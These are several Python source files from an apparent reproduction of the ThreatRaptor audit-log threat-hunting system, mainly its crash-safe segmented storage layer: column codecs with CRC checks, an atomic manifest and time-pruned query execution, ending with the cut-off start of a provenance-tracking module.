"""ThreatRaptor reproduction: threat hunting in system audit logs using OSCTI.

The package reproduces the ICDE 2021 demonstration paper *"A System for
Efficiently Hunting for Cyber Threats in Computer Systems Using Threat
Intelligence"* (ThreatRaptor) end to end in pure Python:

* :mod:`repro.auditing` — the system auditing substrate (entities, events,
  Sysdig-style logs, workload/attack simulators, Causality Preserved
  Reduction);
* :mod:`repro.storage` — the relational (PostgreSQL-like) and graph
  (Neo4j-like) audit stores;
* :mod:`repro.nlp` — the unsupervised threat behavior extraction pipeline;
* :mod:`repro.tbql` — the Threat Behavior Query Language (parser, synthesis,
  compilers, scheduler, execution engine);
* :mod:`repro.core` — the :class:`~repro.core.pipeline.ThreatRaptor` facade
  tying everything together;
* :mod:`repro.streaming` — micro-batched ingestion and standing-query hunts;
* :mod:`repro.intel` — corpus-scale OSCTI extraction and hunt planning;
* :mod:`repro.scenarios` — seeded kill-chain campaign generation and the
  cross-engine differential verification harness.

Quickstart::

    from repro import ThreatRaptor
    from repro.auditing.workload import simulate_demo_host

    raptor = ThreatRaptor()
    raptor.load_trace(simulate_demo_host().trace)
    report = raptor.hunt(open("report.txt").read())
    print(report.query_text)
    print(report.result.to_table())
"""

from repro.core.config import ThreatRaptorConfig
from repro.core.pipeline import HuntReport, ThreatRaptor
from repro.errors import (
    AuditLogError,
    ConfigurationError,
    ExecutionError,
    ExtractionError,
    QueryError,
    SchemaError,
    StorageError,
    SynthesisError,
    TBQLError,
    TBQLSemanticError,
    TBQLSyntaxError,
    ThreatRaptorError,
)

__version__ = "1.0.0"

__all__ = [
    "AuditLogError",
    "ConfigurationError",
    "ExecutionError",
    "ExtractionError",
    "HuntReport",
    "QueryError",
    "SchemaError",
    "StorageError",
    "SynthesisError",
    "TBQLError",
    "TBQLSemanticError",
    "TBQLSyntaxError",
    "ThreatRaptor",
    "ThreatRaptorConfig",
    "ThreatRaptorError",
    "__version__",
]
