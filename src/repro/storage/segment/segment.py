"""Sealed segments: immutable time-partitioned slices of the audit tables.

A segment is one directory holding a typed column file per field of each
audit table (see :mod:`repro.storage.segment.columnio`), produced by
:func:`write_segment` when the segmented database seals a memtable.  Sealing
is crash-safe: the column files are written and fsynced inside a ``.tmp``
staging directory, the staging directory itself is fsynced, and only then is
it renamed into place — the segment becomes *live* when (and only when) the
manifest publish that follows references it.

:class:`SegmentReader` is the lazy read side: constructing one validates
nothing but the manifest entry; the column files are mapped, checksummed and
materialized into an indexed in-memory
:class:`~repro.storage.relational.table.Table` on first query against the
segment, and the per-segment footer stats (min/max ``starttime``) let the
database prune whole segments against a query's time window without touching
their files at all.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path
from typing import Any, Mapping, Sequence

from repro.errors import SegmentError
from repro.storage.relational.table import Table, TableSchema
from repro.storage.segment.columnio import ColumnReader, write_int_column, write_string_column


def _column_path(directory: Path, table: str, column: str) -> Path:
    return directory / f"{table}.{column}.col"


def write_segment(
    parent: Path,
    name: str,
    tables: Mapping[str, tuple[TableSchema, Mapping[str, Sequence[Any]]]],
) -> dict[str, Any]:
    """Seal ``tables`` (schema + column arrays each) into segment ``name``.

    Returns the manifest entry describing the sealed segment.  The caller is
    responsible for publishing that entry through the manifest — until then
    the segment directory is an invisible orphan, which is exactly what a
    crash between the two steps leaves behind.
    """
    staging = parent / f"{name}.tmp"
    final = parent / name
    for stale in (staging, final):
        if stale.exists():
            shutil.rmtree(stale)
    staging.mkdir(parents=True)

    entry: dict[str, Any] = {"name": name, "rows": {}, "columns": {}}
    for table_name, (schema, columns) in tables.items():
        column_stats: dict[str, Any] = {}
        rows = 0
        for definition in schema.columns:
            values = list(columns[definition.name])
            rows = len(values)
            path = _column_path(staging, table_name, definition.name)
            if definition.dtype is int:
                column_stats[definition.name] = write_int_column(path, values)
            else:
                column_stats[definition.name] = write_string_column(path, values)
        entry["rows"][table_name] = rows
        entry["columns"][table_name] = column_stats

    event_stats = entry["columns"].get("events", {}).get("starttime")
    if event_stats is not None:
        entry["min_starttime"] = event_stats["min"]
        entry["max_starttime"] = event_stats["max"]

    # Make the staged files' directory entries durable, then atomically move
    # the whole staging directory into place (os.replace on a directory is a
    # rename; the target was cleared above).
    fd = os.open(staging, os.O_RDONLY)
    try:
        os.fsync(fd)
    finally:
        os.close(fd)
    os.replace(staging, final)
    return entry


class SegmentReader:
    """Read side of one sealed segment: lazy, validated, immutable.

    Args:
        directory: The segment's directory (``<data_dir>/<name>``).
        entry: The manifest entry describing it.
        schemas: Table name → schema, for materialization.
        hash_indexes: Columns to hash-index on materialized tables.
        sorted_indexes: Columns to sort-index on materialized tables.
    """

    def __init__(
        self,
        directory: Path,
        entry: Mapping[str, Any],
        schemas: Mapping[str, TableSchema],
        hash_indexes: Mapping[str, tuple[str, ...]] | None = None,
        sorted_indexes: Mapping[str, tuple[str, ...]] | None = None,
    ) -> None:
        self._directory = directory
        self._entry = dict(entry)
        self._schemas = dict(schemas)
        self._hash_indexes = dict(hash_indexes or {})
        self._sorted_indexes = dict(sorted_indexes or {})
        self._tables: dict[str, Table] = {}

    @property
    def name(self) -> str:
        return str(self._entry.get("name", self._directory.name))

    @property
    def entry(self) -> dict[str, Any]:
        return dict(self._entry)

    def rows(self, table: str) -> int:
        return int(self._entry.get("rows", {}).get(table, 0))

    @property
    def min_starttime(self) -> int | None:
        value = self._entry.get("min_starttime")
        return int(value) if value is not None else None

    @property
    def max_starttime(self) -> int | None:
        value = self._entry.get("max_starttime")
        return int(value) if value is not None else None

    def overlaps_window(self, low: int | None, high: int | None) -> bool:
        """Whether any event of this segment can fall inside ``[low, high]``.

        ``None`` bounds are open; unknown footer stats (an empty segment)
        conservatively overlap so correctness never depends on pruning.
        """
        minimum, maximum = self.min_starttime, self.max_starttime
        if minimum is None or maximum is None:
            return True
        if low is not None and maximum < low:
            return False
        if high is not None and minimum > high:
            return False
        return True

    @property
    def materialized(self) -> bool:
        """Whether any of this segment's tables has been decoded yet."""
        return bool(self._tables)

    def table(self, table_name: str) -> Table:
        """The segment's rows for ``table_name`` as an indexed in-memory table.

        Decoded from the mmapped column files on first call (verifying each
        file's checksum) and cached; a sealed segment never changes, so the
        materialized table is immutable by construction.

        Raises:
            SegmentError: on a missing, truncated or corrupt column file.
        """
        cached = self._tables.get(table_name)
        if cached is not None:
            return cached
        schema = self._schemas.get(table_name)
        if schema is None:
            raise SegmentError(f"segment {self.name} has no table {table_name!r}")
        expected = self.rows(table_name)
        columns: dict[str, list[Any]] = {}
        for definition in schema.columns:
            path = _column_path(self._directory, table_name, definition.name)
            if not path.exists():
                raise SegmentError(
                    f"segment {self.name} is missing column file {path.name}"
                )
            columns[definition.name] = ColumnReader(path, expected_rows=expected).values()
        table = Table(schema)
        for column in self._hash_indexes.get(table_name, ()):
            table.create_hash_index(column)
        for column in self._sorted_indexes.get(table_name, ()):
            table.create_sorted_index(column)
        names = schema.column_names()
        table.insert_many(
            {name: columns[name][position] for name in names} for position in range(expected)
        )
        self._tables[table_name] = table
        return table


__all__ = ["SegmentReader", "write_segment"]
