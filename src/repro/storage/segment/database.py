"""Durable, time-partitioned drop-in for :class:`RelationalDatabase`.

:class:`SegmentedRelationalDatabase` keeps the exact query surface of the
in-memory relational store — ``execute(SelectQuery)``, ``plan``, ``explain``,
bulk and incremental loading — but persists events to disk:

* Fresh rows land in an in-memory **memtable** (a plain indexed
  :class:`~repro.storage.relational.table.Table`); once it reaches
  ``segment_rows`` events it is **sealed** into an immutable on-disk segment
  (:func:`~repro.storage.segment.segment.write_segment`) and published through
  the atomic manifest.
* ``SelectQuery`` execution **prunes** sealed segments whose min/max
  ``starttime`` footer stats cannot overlap the query's time window, then
  delegates each surviving segment (and the memtable) to the existing
  vectorized column kernels and concatenates the partial results.  This is
  exact for TBQL pattern queries, which reference the ``events`` table exactly
  once: segments partition the events disjointly, entities are fully
  memory-resident, so each joined output row is produced by exactly one
  partition.  Queries outside that shape (no or multiple events aliases,
  ``ORDER BY``, ``LIMIT``) fall back to a lazily built combined view.
* Entities are small (bounded by distinct processes/files/hosts, not by event
  volume), so they stay fully memory-resident and are additionally persisted
  with each sealed segment; reopening a data directory rebuilds the entity
  table and leaves event segments lazily mmapped until a query touches them.
"""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any, Iterable

from repro.auditing.entities import SystemEntity
from repro.auditing.events import SystemEvent
from repro.auditing.trace import AuditTrace
from repro.errors import QueryError, SegmentError
from repro.storage.relational.database import (
    DEFAULT_HASH_INDEXES,
    DEFAULT_SORTED_INDEXES,
    ENTITY_SCHEMA,
    EVENT_SCHEMA,
)
from repro.storage.relational.executor import ExecutionPlan, QueryExecutor
from repro.storage.relational.expression import range_lookups
from repro.storage.relational.query import QueryResult, SelectQuery
from repro.storage.relational.table import Table
from repro.storage.segment.manifest import SegmentManifest
from repro.storage.segment.segment import SegmentReader, write_segment

#: Default number of memtable events that triggers a seal.
DEFAULT_SEGMENT_ROWS = 4096

_SCHEMAS = {"entities": ENTITY_SCHEMA, "events": EVENT_SCHEMA}


def _indexed_table(name: str) -> Table:
    table = Table(_SCHEMAS[name])
    for column in DEFAULT_HASH_INDEXES[name]:
        table.create_hash_index(column)
    for column in DEFAULT_SORTED_INDEXES[name]:
        table.create_sorted_index(column)
    return table


class SegmentedRelationalDatabase:
    """On-disk segmented relational store with the in-memory store's API.

    Args:
        data_dir: Directory holding the manifest and sealed segments.  Opening
            an existing directory restores its sealed state (entities eagerly,
            event segments lazily).
        executor: ``"vectorized"`` or ``"reference"``, as for
            :class:`~repro.storage.relational.database.RelationalDatabase`.
        segment_rows: Memtable event count at which a seal is triggered.
    """

    def __init__(
        self,
        data_dir: str | Path,
        executor: str = "vectorized",
        segment_rows: int = DEFAULT_SEGMENT_ROWS,
    ) -> None:
        if executor not in ("vectorized", "reference"):
            raise QueryError(f"unknown relational executor {executor!r}")
        if segment_rows < 1:
            raise QueryError(f"segment_rows must be positive, got {segment_rows}")
        self.executor_name = executor
        self._segment_rows = segment_rows
        self._manifest = SegmentManifest(data_dir)
        self._data_dir = self._manifest.directory
        self._tables: dict[str, Table] = {
            "entities": _indexed_table("entities"),
            "events": _indexed_table("events"),
        }
        self._planner = QueryExecutor(self._tables)
        self._executor = self._build_executor(self._tables)
        self._entries: list[dict[str, Any]] = []
        self._segments: list[SegmentReader] = []
        self._segment_executors: dict[str, Any] = {}
        self._unsealed_entities: list[dict[str, Any]] = []
        self._next_segment = 0
        self._combined: tuple[dict[str, Table], Any] | None = None
        #: Cumulative segment-pruning counters, reset by :meth:`reset_scan_counters`.
        self.segments_pruned = 0
        self.segments_scanned = 0
        self._open()

    # -- lifecycle -----------------------------------------------------------

    def _build_executor(self, tables: dict[str, Table]) -> Any:
        if self.executor_name == "vectorized":
            return QueryExecutor(tables)
        from repro.storage.relational.reference import ReferenceQueryExecutor

        return ReferenceQueryExecutor(tables)

    def _open(self) -> None:
        """Restore sealed state from the manifest; drop unreferenced orphans.

        A crash between writing a segment directory and publishing the
        manifest leaves the directory as an orphan — removed here so a
        half-sealed segment can never resurface.
        """
        entries = self._manifest.load()
        live = {str(entry.get("name")) for entry in entries}
        for child in sorted(self._data_dir.iterdir()):
            if child.is_dir() and child.name not in live:
                shutil.rmtree(child)
        for entry in entries:
            name = str(entry.get("name"))
            directory = self._data_dir / name
            if not directory.is_dir():
                raise SegmentError(
                    f"manifest references segment {name!r} but {directory} is missing"
                )
            reader = SegmentReader(
                directory,
                entry,
                _SCHEMAS,
                hash_indexes=DEFAULT_HASH_INDEXES,
                sorted_indexes=DEFAULT_SORTED_INDEXES,
            )
            self._entries.append(dict(entry))
            self._segments.append(reader)
            index = _segment_index(name)
            if index is not None:
                self._next_segment = max(self._next_segment, index + 1)
        # Entities are memory-resident: rebuild the table from every sealed
        # segment's entity rows (eager and cheap — entity cardinality is tiny
        # next to event volume).
        entities = self._tables["entities"]
        seen: set[Any] = set()
        for reader in self._segments:
            for row in reader.table("entities").scan():
                if row["id"] in seen:
                    continue
                seen.add(row["id"])
                entities.insert(row)
        # Rebuilt rows are already durable; only rows newer than the last
        # seal belong in _unsealed_entities.
        self._unsealed_entities = []

    def clear(self) -> None:
        """Drop all rows — memtable, sealed segments and manifest alike."""
        for child in sorted(self._data_dir.iterdir()):
            if child.is_dir():
                shutil.rmtree(child)
            else:
                child.unlink()
        self._entries = []
        self._segments = []
        self._segment_executors = {}
        self._unsealed_entities = []
        self._next_segment = 0
        self._tables["entities"] = _indexed_table("entities")
        self._tables["events"] = _indexed_table("events")
        self._invalidate_combined()

    # -- loading -------------------------------------------------------------

    def load_entities(self, entities: Iterable[SystemEntity]) -> int:
        rows = [entity.to_row() for entity in entities]
        self._tables["entities"].insert_many(rows)
        self._unsealed_entities.extend(rows)
        return len(rows)

    def load_events(self, events: Iterable[SystemEvent]) -> int:
        # Insert in seal-threshold chunks rather than all at once: traces
        # arrive in collection (≈time) order, so sealing as the memtable
        # fills is what makes segments time-partitioned and prunable.
        count = 0
        memtable = self._tables["events"]
        batch: list[dict[str, Any]] = []
        for event in events:
            batch.append(event.to_row())
            if len(memtable) + len(batch) >= self._segment_rows:
                count += memtable.insert_many(batch)
                batch = []
                self.seal()
                memtable = self._tables["events"]
        if batch:
            count += memtable.insert_many(batch)
        self._invalidate_combined()
        self._maybe_seal()
        return count

    def load_trace(self, trace: AuditTrace) -> dict[str, int]:
        return {
            "entities": self.load_entities(trace.entities),
            "events": self.load_events(trace.events),
        }

    # -- incremental loading ---------------------------------------------------

    def has_entity(self, entity_id: int) -> bool:
        table = self._tables["entities"]
        return next(table.lookup_equal("id", entity_id), None) is not None

    def append_entities(self, entities: Iterable[SystemEntity]) -> int:
        count = 0
        for entity in entities:
            if not self.has_entity(entity.entity_id):
                row = entity.to_row()
                self._tables["entities"].insert(row)
                self._unsealed_entities.append(row)
                count += 1
        return count

    def append_events(self, events: Iterable[SystemEvent]) -> int:
        return self.load_events(events)

    def append_batch(
        self, entities: Iterable[SystemEntity], events: Iterable[SystemEvent]
    ) -> dict[str, int]:
        return {
            "entities": self.append_entities(entities),
            "events": self.append_events(events),
        }

    # -- sealing ---------------------------------------------------------------

    @property
    def memtable_events(self) -> int:
        """Unsealed (memory-only) event rows."""
        return len(self._tables["events"])

    @property
    def sealed_segments(self) -> int:
        return len(self._segments)

    @property
    def segment_readers(self) -> tuple[SegmentReader, ...]:
        """The live sealed-segment readers, oldest first."""
        return tuple(self._segments)

    def _maybe_seal(self) -> None:
        if len(self._tables["events"]) >= self._segment_rows:
            self.seal()

    def seal(self) -> str | None:
        """Seal the memtable into a new on-disk segment; returns its name.

        No-op (returns ``None``) when there is nothing unsealed.  The segment
        directory is fully written and fsynced before the manifest publish
        makes it visible, so a crash at any point leaves either the previous
        manifest (new directory = removable orphan) or the new one.
        """
        memtable = self._tables["events"]
        if not len(memtable) and not self._unsealed_entities:
            return None
        name = f"seg-{self._next_segment:05d}"
        event_rows = list(memtable.scan())
        tables = {
            "events": (
                EVENT_SCHEMA,
                {
                    column: [row[column] for row in event_rows]
                    for column in EVENT_SCHEMA.column_names()
                },
            ),
            "entities": (
                ENTITY_SCHEMA,
                {
                    # Entity rows arrive sparse (per-type attributes only);
                    # absent columns are NULL, as in the normalized table.
                    column: [row.get(column) for row in self._unsealed_entities]
                    for column in ENTITY_SCHEMA.column_names()
                },
            ),
        }
        entry = write_segment(self._data_dir, name, tables)
        self._entries.append(entry)
        self._manifest.save(self._entries)
        self._segments.append(
            SegmentReader(
                self._data_dir / name,
                entry,
                _SCHEMAS,
                hash_indexes=DEFAULT_HASH_INDEXES,
                sorted_indexes=DEFAULT_SORTED_INDEXES,
            )
        )
        self._next_segment += 1
        self._tables["events"] = _indexed_table("events")
        self._unsealed_entities = []
        self._invalidate_combined()
        return name

    # -- querying --------------------------------------------------------------

    def table(self, name: str) -> Table:
        """Access one audit table by name (``events`` spans every segment).

        Raises:
            QueryError: for unknown table names.
        """
        if name == "entities":
            return self._tables["entities"]
        if name == "events":
            if not self._segments:
                return self._tables["events"]
            tables, _ = self._combined_view()
            return tables["events"]
        raise QueryError(f"unknown table {name!r}")

    def execute(self, query: SelectQuery) -> QueryResult:
        """Execute a select-project-join query across memtable and segments."""
        if not self._segments:
            return self._executor.execute(query)
        event_aliases = [ref.alias for ref in query.tables if ref.table == "events"]
        if len(event_aliases) != 1 or query.order_by or query.limit is not None:
            # Partition-wise execution is only exact for the single-events-
            # alias shape every TBQL pattern compiles to; everything else runs
            # against the combined view.
            _, executor = self._combined_view()
            return executor.execute(query)
        return self._execute_partitioned(query, event_aliases[0])

    def plan(self, query: SelectQuery) -> ExecutionPlan:
        """Plan a query (against the memtable's statistics) without executing."""
        return self._planner.plan(query)

    def explain(self, query: SelectQuery) -> list[str]:
        """EXPLAIN-style plan description."""
        return self._planner.explain(query)

    # -- statistics ------------------------------------------------------------

    def reset_scan_counters(self) -> None:
        self.segments_pruned = 0
        self.segments_scanned = 0

    def statistics(self) -> dict[str, Any]:
        """Per-table row/index stats plus segment-store health counters."""
        stats = {name: table.statistics() for name, table in self._tables.items()}
        sealed = sum(reader.rows("events") for reader in self._segments)
        stats["events"]["rows"] += sealed
        stats["events"]["memtable_rows"] = len(self._tables["events"])
        stats["segments"] = {
            "count": len(self._segments),
            "sealed_event_rows": sealed,
            "segment_rows_threshold": self._segment_rows,
            "pruned": self.segments_pruned,
            "scanned": self.segments_scanned,
            "data_dir": str(self._data_dir),
        }
        return stats

    def __len__(self) -> int:
        return (
            len(self._tables["entities"])
            + len(self._tables["events"])
            + sum(reader.rows("events") for reader in self._segments)
        )

    # -- internal --------------------------------------------------------------

    def _execute_partitioned(self, query: SelectQuery, events_alias: str) -> QueryResult:
        low, high = range_lookups(query.filter_for_alias(events_alias)).get(
            "starttime", (None, None)
        )
        results: list[QueryResult] = []
        if len(self._tables["events"]):
            results.append(self._executor.execute(query))
        for reader in self._segments:
            if not reader.overlaps_window(low, high):
                self.segments_pruned += 1
                continue
            self.segments_scanned += 1
            results.append(self._segment_executor(reader).execute(query))
        if not results:
            # Every partition pruned: run against the empty memtable so the
            # result still carries the query's column layout.
            return self._executor.execute(query)
        columns = results[0].columns
        rows: list[tuple[Any, ...]] = []
        for result in results:
            rows.extend(result.rows)
        if query.distinct:
            rows = list(dict.fromkeys(rows))
        return QueryResult(columns=columns, rows=tuple(rows))

    def _segment_executor(self, reader: SegmentReader) -> Any:
        executor = self._segment_executors.get(reader.name)
        if executor is None:
            tables = {
                "entities": self._tables["entities"],
                "events": reader.table("events"),
            }
            executor = self._build_executor(tables)
            self._segment_executors[reader.name] = executor
        return executor

    def _combined_view(self) -> tuple[dict[str, Table], Any]:
        """Lazily materialize every event row into one indexed table."""
        if self._combined is None:
            combined = _indexed_table("events")
            for reader in self._segments:
                combined.insert_many(reader.table("events").scan())
            combined.insert_many(self._tables["events"].scan())
            tables = {"entities": self._tables["entities"], "events": combined}
            self._combined = (tables, self._build_executor(tables))
        return self._combined

    def _invalidate_combined(self) -> None:
        self._combined = None


def _segment_index(name: str) -> int | None:
    prefix, _, suffix = name.partition("-")
    if prefix != "seg" or not suffix.isdigit():
        return None
    return int(suffix)


__all__ = ["DEFAULT_SEGMENT_ROWS", "SegmentedRelationalDatabase"]
