"""Durable, time-partitioned segment storage for the audit tables.

The package splits into the on-disk codec layer
(:mod:`~repro.storage.segment.columnio`), the atomic manifest
(:mod:`~repro.storage.segment.manifest`), sealed-segment read/write
(:mod:`~repro.storage.segment.segment`) and the drop-in database
(:mod:`~repro.storage.segment.database`).
"""

from repro.storage.segment.columnio import (
    COLUMN_FORMAT_VERSION,
    ColumnReader,
    write_int_column,
    write_string_column,
)
from repro.storage.segment.database import DEFAULT_SEGMENT_ROWS, SegmentedRelationalDatabase
from repro.storage.segment.manifest import MANIFEST_NAME, MANIFEST_VERSION, SegmentManifest
from repro.storage.segment.segment import SegmentReader, write_segment

__all__ = [
    "COLUMN_FORMAT_VERSION",
    "ColumnReader",
    "DEFAULT_SEGMENT_ROWS",
    "MANIFEST_NAME",
    "MANIFEST_VERSION",
    "SegmentManifest",
    "SegmentReader",
    "SegmentedRelationalDatabase",
    "write_int_column",
    "write_segment",
    "write_string_column",
]
