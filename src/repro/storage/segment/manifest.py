"""The segment store's manifest: the single source of truth for what is live.

A segment becomes visible only when the manifest names it, and the manifest
is published with the exact atomic discipline of
:class:`repro.streaming.checkpoint.CheckpointStore`: the JSON snapshot is
written to a temp file, flushed and fsynced, renamed over the live manifest
with ``os.replace``, and the directory itself is fsynced so the rename is
durable.  A crash mid-seal therefore leaves either the old manifest (the new
segment's files are unreferenced orphans, removed on the next open) or the
new one (whose column files were fsynced before the publish) — never a
half-visible segment.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

from repro.errors import SegmentError

#: Bump when the manifest layout changes incompatibly.
MANIFEST_VERSION = 1

MANIFEST_NAME = "manifest.json"


class SegmentManifest:
    """Atomic load/save of the segment list for one data directory."""

    def __init__(self, directory: str | Path) -> None:
        self._directory = Path(directory)
        self._directory.mkdir(parents=True, exist_ok=True)
        self._path = self._directory / MANIFEST_NAME
        self._tmp = self._directory / (MANIFEST_NAME + ".tmp")

    @property
    def directory(self) -> Path:
        return self._directory

    @property
    def path(self) -> Path:
        return self._path

    def exists(self) -> bool:
        return self._path.exists()

    def save(self, segments: list[dict[str, Any]]) -> Path:
        """Atomically publish ``segments`` as the live manifest."""
        payload = {"version": MANIFEST_VERSION, "segments": segments}
        data = json.dumps(payload, sort_keys=True)
        with open(self._tmp, "w", encoding="utf-8") as handle:
            handle.write(data)
            handle.flush()
            os.fsync(handle.fileno())
        os.replace(self._tmp, self._path)
        self._fsync_directory()
        return self._path

    def load(self) -> list[dict[str, Any]]:
        """The live segment list (empty when no manifest exists yet).

        Raises:
            SegmentError: when a manifest exists but cannot be decoded or was
                written by an incompatible version — a corrupt manifest must
                never be treated as an empty store.
        """
        if not self._path.exists():
            return []
        try:
            payload = json.loads(self._path.read_text(encoding="utf-8"))
        except (OSError, json.JSONDecodeError) as exc:
            raise SegmentError(f"segment manifest {self._path} is corrupt: {exc}") from exc
        if not isinstance(payload, dict) or payload.get("version") != MANIFEST_VERSION:
            raise SegmentError(
                f"segment manifest {self._path} has version "
                f"{payload.get('version') if isinstance(payload, dict) else None!r}, "
                f"expected {MANIFEST_VERSION}"
            )
        segments = payload.get("segments")
        if not isinstance(segments, list):
            raise SegmentError(f"segment manifest {self._path} lists no segments array")
        return segments

    # -- internal ------------------------------------------------------------

    def _fsync_directory(self) -> None:
        # POSIX durability for the rename itself; best-effort elsewhere.
        try:
            fd = os.open(self._directory, os.O_RDONLY)
        except OSError:  # pragma: no cover - platform-specific
            return
        try:
            os.fsync(fd)
        finally:
            os.close(fd)


__all__ = ["MANIFEST_NAME", "MANIFEST_VERSION", "SegmentManifest"]
