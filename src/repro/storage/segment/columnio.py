"""Typed on-disk column files for the segment store.

Each sealed segment stores one file per column, in one of two codecs:

* **int columns** (``TRCI``) — a null-presence bitmap followed by the values
  struct-packed as little-endian signed 64-bit integers (timestamps, event
  and entity ids, ports, byte amounts all fit);
* **string columns** (``TRCS``) — a dictionary block of distinct UTF-8 values
  followed by the same presence bitmap and one packed ``uint32`` code per
  row.  Audit-log string columns (operation types, hosts, executable names)
  are extremely low-cardinality, so dictionary encoding keeps segments small
  and decoding allocation-light: every row of a value shares one Python
  string object.

Both codecs end with a CRC32 (:func:`zlib.crc32`) over everything before it.
Readers are **mmap-backed**: opening a column maps the file and verifies only
the fixed-size header; the payload is checksummed and decoded lazily on first
:meth:`ColumnReader.values` call, so opening a store with many segments does
not read them all.  Any structural problem — wrong magic, truncated payload,
checksum mismatch — raises :class:`~repro.errors.SegmentError`; a torn file
can never silently serve partial data.
"""

from __future__ import annotations

import mmap
import os
import struct
import zlib
from pathlib import Path
from typing import Any, Sequence

from repro.errors import SegmentError

#: Codec magics (4 bytes each).
INT_MAGIC = b"TRCI"
STRING_MAGIC = b"TRCS"

#: Bump when the on-disk layout changes incompatibly.
COLUMN_FORMAT_VERSION = 1

#: Fixed header: magic(4) + version(<H) + row_count(<Q).
_HEADER = struct.Struct("<4sHQ")
_U32 = struct.Struct("<I")
_I64 = struct.Struct("<q")


def _presence_bitmap(values: Sequence[Any]) -> bytes:
    bitmap = bytearray((len(values) + 7) // 8)
    for position, value in enumerate(values):
        if value is not None:
            bitmap[position >> 3] |= 1 << (position & 7)
    return bytes(bitmap)


def _is_present(bitmap: bytes, position: int) -> bool:
    return bool(bitmap[position >> 3] & (1 << (position & 7)))


def write_int_column(path: Path, values: Sequence[int | None]) -> dict[str, Any]:
    """Write ``values`` as an int column file; returns the column's stats.

    The file is flushed and fsynced before returning so a subsequent
    manifest publish cannot reference bytes still in the page cache.
    """
    payload = bytearray()
    payload += _HEADER.pack(INT_MAGIC, COLUMN_FORMAT_VERSION, len(values))
    payload += _presence_bitmap(values)
    for value in values:
        payload += _I64.pack(0 if value is None else int(value))
    payload += _U32.pack(zlib.crc32(bytes(payload)))
    with open(path, "wb") as handle:
        handle.write(bytes(payload))
        handle.flush()
        os.fsync(handle.fileno())
    present = [value for value in values if value is not None]
    return {
        "codec": "int",
        "rows": len(values),
        "nulls": len(values) - len(present),
        "min": min(present) if present else None,
        "max": max(present) if present else None,
    }


def write_string_column(path: Path, values: Sequence[str | None]) -> dict[str, Any]:
    """Write ``values`` as a dictionary-encoded string column file."""
    dictionary: dict[str, int] = {}
    codes: list[int] = []
    for value in values:
        if value is None:
            codes.append(0)
            continue
        code = dictionary.get(value)
        if code is None:
            code = len(dictionary)
            dictionary[value] = code
        codes.append(code)
    payload = bytearray()
    payload += _HEADER.pack(STRING_MAGIC, COLUMN_FORMAT_VERSION, len(values))
    payload += _U32.pack(len(dictionary))
    for value in dictionary:
        encoded = value.encode("utf-8")
        payload += _U32.pack(len(encoded))
        payload += encoded
    payload += _presence_bitmap(values)
    for code in codes:
        payload += _U32.pack(code)
    payload += _U32.pack(zlib.crc32(bytes(payload)))
    with open(path, "wb") as handle:
        handle.write(bytes(payload))
        handle.flush()
        os.fsync(handle.fileno())
    present = [value for value in values if value is not None]
    return {
        "codec": "string",
        "rows": len(values),
        "nulls": len(values) - len(present),
        "distinct": len(dictionary),
        "min": min(present) if present else None,
        "max": max(present) if present else None,
    }


class ColumnReader:
    """Lazy mmap-backed reader for one column file.

    Construction maps the file and validates only the header (magic, codec
    version, row count); :meth:`values` checksums and decodes the payload on
    first call and memoizes the result.  All structural failures raise
    :class:`SegmentError` naming the offending file.
    """

    def __init__(self, path: Path, expected_rows: int | None = None) -> None:
        self._path = path
        self._values: list[Any] | None = None
        try:
            with open(path, "rb") as handle:
                self._map: mmap.mmap | bytes
                try:
                    self._map = mmap.mmap(handle.fileno(), 0, access=mmap.ACCESS_READ)
                except (ValueError, OSError):
                    # Zero-length files cannot be mapped; fall back to bytes so
                    # the header check below reports truncation uniformly.
                    self._map = handle.read()
        except OSError as exc:
            raise SegmentError(f"cannot open column file {path}: {exc}") from exc
        if len(self._map) < _HEADER.size + _U32.size:
            raise SegmentError(f"column file {path} is truncated (no header)")
        magic, version, rows = _HEADER.unpack_from(self._map, 0)
        if magic not in (INT_MAGIC, STRING_MAGIC):
            raise SegmentError(f"column file {path} has unknown magic {magic!r}")
        if version != COLUMN_FORMAT_VERSION:
            raise SegmentError(
                f"column file {path} has format version {version}, "
                f"expected {COLUMN_FORMAT_VERSION}"
            )
        self._magic = magic
        self.rows = rows
        if expected_rows is not None and rows != expected_rows:
            raise SegmentError(
                f"column file {path} holds {rows} rows, manifest expects {expected_rows}"
            )

    @property
    def path(self) -> Path:
        return self._path

    def values(self) -> list[Any]:
        """Decode (checksumming first) and memoize the column's values."""
        if self._values is None:
            self._values = self._decode()
        return self._values

    # -- internal ------------------------------------------------------------

    def _decode(self) -> list[Any]:
        data = self._map
        body_end = len(data) - _U32.size
        (stored_crc,) = _U32.unpack_from(data, body_end)
        if zlib.crc32(bytes(data[:body_end])) != stored_crc:
            raise SegmentError(f"column file {self._path} failed its CRC32 check")
        offset = _HEADER.size
        rows = self.rows
        try:
            if self._magic == STRING_MAGIC:
                (dict_size,) = _U32.unpack_from(data, offset)
                offset += _U32.size
                dictionary: list[str] = []
                for _ in range(dict_size):
                    (length,) = _U32.unpack_from(data, offset)
                    offset += _U32.size
                    dictionary.append(bytes(data[offset : offset + length]).decode("utf-8"))
                    offset += length
                bitmap = bytes(data[offset : offset + (rows + 7) // 8])
                offset += (rows + 7) // 8
                if body_end - offset != rows * _U32.size:
                    raise SegmentError(
                        f"column file {self._path} payload does not match its row count"
                    )
                values: list[Any] = []
                for position in range(rows):
                    (code,) = _U32.unpack_from(data, offset + position * _U32.size)
                    values.append(dictionary[code] if _is_present(bitmap, position) else None)
                return values
            bitmap = bytes(data[offset : offset + (rows + 7) // 8])
            offset += (rows + 7) // 8
            if body_end - offset != rows * _I64.size:
                raise SegmentError(
                    f"column file {self._path} payload does not match its row count"
                )
            int_values: list[Any] = []
            for position in range(rows):
                (value,) = _I64.unpack_from(data, offset + position * _I64.size)
                int_values.append(value if _is_present(bitmap, position) else None)
            return int_values
        except (struct.error, IndexError, UnicodeDecodeError) as exc:
            raise SegmentError(f"column file {self._path} is corrupt: {exc}") from exc


__all__ = [
    "COLUMN_FORMAT_VERSION",
    "ColumnReader",
    "INT_MAGIC",
    "STRING_MAGIC",
    "write_int_column",
    "write_string_column",
]
