"""Causal provenance tracking over the audit graph.

After a hunting query pins down a malicious record, analysts typically expand
it into the full attack context by causality analysis over the audit data —
the investigation workflow that ThreatRaptor's companion systems (AIQL,
DEPIMPACT-style trackers) support.  This module provides that capability as an
extension on top of the graph store:

* **backward tracking** — starting from a point of interest (an entity at a
